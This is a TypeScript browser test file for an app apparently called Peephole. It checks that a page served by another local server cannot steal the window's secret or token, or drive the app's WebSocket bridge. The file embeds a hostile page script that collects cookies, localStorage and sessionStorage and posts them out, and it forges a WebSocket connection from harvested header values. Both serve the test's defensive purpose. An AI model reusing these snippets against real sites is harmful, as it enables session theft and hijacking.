import { once } from 'node:events';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from '@playwright/test';
import { expect, onTestFinished, test } from 'vitest';
import { WebSocket } from 'ws';
import { builtWindowDir } from '../../src-main/platform/project-root.ts';
import { type ServedSurface, serveSurface } from '../support/browser-surface.ts';
import { FakeAppApi } from '../support/fake-app-api.ts';
import { fakeSender } from '../support/views.ts';
import { suiteBrowser } from './suite.ts';

const browser = await suiteBrowser();

/** The owner's browser, which keeps things for whoever asks it to. */
async function ownersBrowser(): Promise<{ readonly context: BrowserContext; readonly page: Page }> {
  const context = await browser.newContext();
  onTestFinished(() => context.close());
  return { context, page: await context.newPage() };
}

function serve(): Promise<ServedSurface> {
  return serveSurface(new FakeAppApi([fakeSender({ handle: '+12125550101' })]), builtWindowDir);
}

/** Somebody else's server on another port of this machine, whose page tries to take along what the browser has. */
async function otherServer(aim: string) {
  const requests: IncomingMessage[] = [];
  const server = createServer((request, response) => {
    requests.push(request);
    response.setHeader('content-type', 'text/html');
    response.end(`<!doctype html><title>Other</title><script type="module">
      const got = [document.cookie, JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage })];
      await fetch('/again', { method: 'POST', credentials: 'include', body: got.join() });
      await fetch('${aim}/', { credentials: 'include', mode: 'no-cors' }).catch(() => {});
      const socket = new WebSocket('${aim.replace('http', 'ws')}/bridge', ['peephole']);
      socket.onclose = ({ code }) => { document.title = 'closed ' + code; };
      socket.onmessage = ({ data }) => { document.title = 'heard ' + data; };
      socket.onopen = () => socket.send('{"id":1,"command":"list"}');
    </script>`);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  return { requests, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

async function bodiesOf(requests: readonly IncomingMessage[]): Promise<string> {
  const parts = await Promise.all(requests.map(async (one) => Buffer.concat(await one.toArray()).toString()));
  return parts.join('\n');
}

test('another server on this machine gets nothing of the window’s secret, and opens nothing with what it got', async () => {
  const served = await serve();
  const { page, context } = await ownersBrowser();
  await page.goto(served.surface.url);
  await page.locator('.content, .first-run').waitFor();
  const secret = await page.evaluate<string>(`localStorage.getItem('peephole-secret')`);
  expect(secret).toMatch(/^[\w-]{43}$/);
  expect(await context.cookies()).toEqual([]);

  const other = await otherServer(served.origin);
  await page.evaluate(`void window.open('${other.origin}')`);
  const there = await context.waitForEvent('page').catch(() => context.pages().at(-1));
  const visited = there ?? page;
  await visited.waitForFunction('/^(closed|heard) /.test(document.title)');
  expect(await visited.title()).toBe('closed 1006');

  const sent = other.requests.flatMap(({ rawHeaders, url }) => [url, ...rawHeaders]).join('\n');
  const given = `${sent}\n${await bodiesOf(other.requests)}`;
  expect(other.requests.length).toBeGreaterThanOrEqual(2);
  expect(given).not.toContain(secret);
  expect(given).not.toContain(served.token);
  expect(sent.toLowerCase()).not.toContain('\ncookie\n');

  // What a program outside any browser can make of everything that was sent there.
  const { rawHeaders } = other.requests[0] ?? { rawHeaders: [] };
  const words = rawHeaders.filter((word) => /^[\w-]{43}$/.test(word));
  const forged = new WebSocket(`ws://127.0.0.1:${served.port}/bridge`, ['peephole', ...words], {
    headers: { origin: served.origin },
  });
  forged.on('error', () => {});
  forged.on('open', () => forged.send('{"id":1,"command":"list"}'));
  const [code] = await once(forged, 'close');
  expect(code).toBe(4403);
  expect(served.api.calls.filter(({ name }) => name === 'list')).toEqual([]);
});

test('the link is left behind, a reload and a further tab get in, another browser does not', async () => {
  const served = await serve();
  const { page, context } = await ownersBrowser();
  await page.goto(served.surface.url);
  await page.locator('.content, .first-run').waitFor();
  expect(page.url()).toBe(`${served.origin}/`);
  await page.reload();
  await page.locator('.content, .first-run').waitFor();
  const tab = await context.newPage();
  await tab.goto(served.origin);
  await tab.locator('.content, .first-run').waitFor();

  const stranger = await ownersBrowser();
  await stranger.page.goto(served.origin);
  await stranger.page.getByText('Open Peephole with its link').waitFor();
  await stranger.page.goto(served.surface.url);
  await stranger.page.getByText('This link was used already').waitFor();
  expect(await stranger.page.evaluate('localStorage.length')).toBe(0);
});

test('the link pasted over the page that asked for it opens the window', async () => {
  const served = await serve();
  const { page } = await ownersBrowser();
  await page.goto(served.origin);
  await page.getByText('Open Peephole with its link').waitFor();
  await page.goto(served.surface.url);
  await page.locator('.content, .first-run').waitFor();
});
